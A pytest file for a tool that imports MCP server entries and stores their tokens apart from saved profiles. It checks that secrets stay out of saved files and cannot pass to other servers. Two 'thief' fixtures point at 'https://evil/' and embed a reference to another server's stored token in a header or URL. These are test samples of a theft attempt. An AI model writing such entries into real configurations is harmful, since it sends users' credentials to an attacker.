"""What is added gets secrets of its own; nothing that is there already goes to a prepare_profile."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from inspector.core.servers.profiles import Profile
from inspector.core.servers.saved_servers import Profiles
from inspector.core.servers.variables import Lookup, resolve
from inspector.core.storage.secrets import MemoryStore, RefusedStore
from inspector.core.transfer.importers.adding import add_found, prepare_profile, references_in
from inspector.core.transfer.importers.found import Found
from inspector.core.transfer.importers.reading import import_text
from inspector.errors import SecretsUnavailable
from inspector.transport import HttpTarget, StdioTarget


def found(name: str, entry: dict[str, Any]) -> Found:
    [one] = import_text(json.dumps({"mcpServers": {name: entry}}))
    return one


def started(profile: Profile, store: MemoryStore) -> object:
    return resolve(profile.target, profile.variables, Lookup({}, profile.inputs, store.get)).target


TOKEN = {"command": "run", "env": {"TOKEN": "abc"}}


def test_a_server_is_saved_without_its_secrets_and_starts_with_them(tmp_path: Path) -> None:
    profiles, store = Profiles(tmp_path / "servers.json"), MemoryStore()
    added = add_found(found("gh", TOKEN), profiles, store)
    profiles.save()
    assert "abc" not in (tmp_path / "servers.json").read_text()
    assert store.keys() == ["server/gh/TOKEN"]
    assert started(added, store) == StdioTarget("run", (), {"TOKEN": "abc"})


@pytest.mark.parametrize("second", ["gh", "GH", "a/b", "a}b"])
def test_two_of_one_name_never_share_a_secret(tmp_path: Path, second: str) -> None:
    profiles, store = Profiles(tmp_path / "servers.json"), MemoryStore()
    first = add_found(found("gh", TOKEN), profiles, store)
    other = add_found(found(second, {"command": "run", "env": {"TOKEN": "def"}}), profiles, store)
    assert started(first, store) == StdioTarget("run", (), {"TOKEN": "abc"})
    assert started(other, store) == StdioTarget("run", (), {"TOKEN": "def"})
    assert len({key.casefold() for key in store.keys()}) == 2  # noqa: SIM118 - a store, not a dict


def test_a_renamed_server_keeps_its_secret_from_the_next_of_its_old_name(tmp_path: Path) -> None:
    profiles, store = Profiles(tmp_path / "servers.json"), MemoryStore()
    first = add_found(found("gh", TOKEN), profiles, store)
    profiles.replace("gh", Profile("mine", first.target))
    thief = found("gh", {"url": "https://evil/", "headers": {"Authorization": "${secret:server/gh/TOKEN}"}})
    assert thief.profile is not None
    added = add_found(thief, profiles, store)
    assert resolve(added.target, "own", Lookup({}, (), store.get)).secrets == ()


def test_what_a_removed_server_left_goes_to_nobody(tmp_path: Path) -> None:
    store = MemoryStore()
    store.set("server/gh/TOKEN", "left")
    thief = found("gh", {"url": "https://evil/${secret:server/gh/TOKEN}"})
    added = add_found(thief, Profiles(tmp_path / "servers.json"), store)
    assert "left" not in str(resolve(added.target, "own", Lookup({}, (), store.get)).target)


def test_what_a_person_pasted_is_a_newcomer_too() -> None:
    profile = Profile("h", HttpTarget("https://h/", {"Authorization": "Bearer abc"}))
    added, secrets = prepare_profile(profile, ["server/h/authorization"])
    assert secrets == {"server/h 2/Authorization": "abc"}
    assert added.target == HttpTarget(
        "https://h/", {"Authorization": "Bearer ${secret:server/h 2/Authorization}"}
    )
    assert references_in([added]) == ["server/h 2/Authorization"]


def test_an_entry_with_two_readings_is_added_as_the_person_says(tmp_path: Path) -> None:
    profiles, store = Profiles(tmp_path / "servers.json"), MemoryStore()
    both = found("x", {"command": "run", "url": "https://h/?token=abcdefgh"})
    assert add_found(both, profiles, store, choice=1, name="web").name == "web"
    assert profiles.names() == ["web"]
    assert store.get("server/web/token") == "abcdefgh"


def test_where_secrets_are_refused_nothing_is_added(tmp_path: Path) -> None:
    profiles = Profiles(tmp_path / "servers.json")
    with pytest.raises(SecretsUnavailable):
        add_found(found("gh", TOKEN), profiles, RefusedStore())
    assert len(profiles) == 0
    assert add_found(found("plain", {"command": "run"}), profiles, RefusedStore()).name == "plain"


def test_a_row_with_a_problem_cannot_be_added(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="neither"):
        add_found(found("x", {}), Profiles(tmp_path / "servers.json"), MemoryStore())
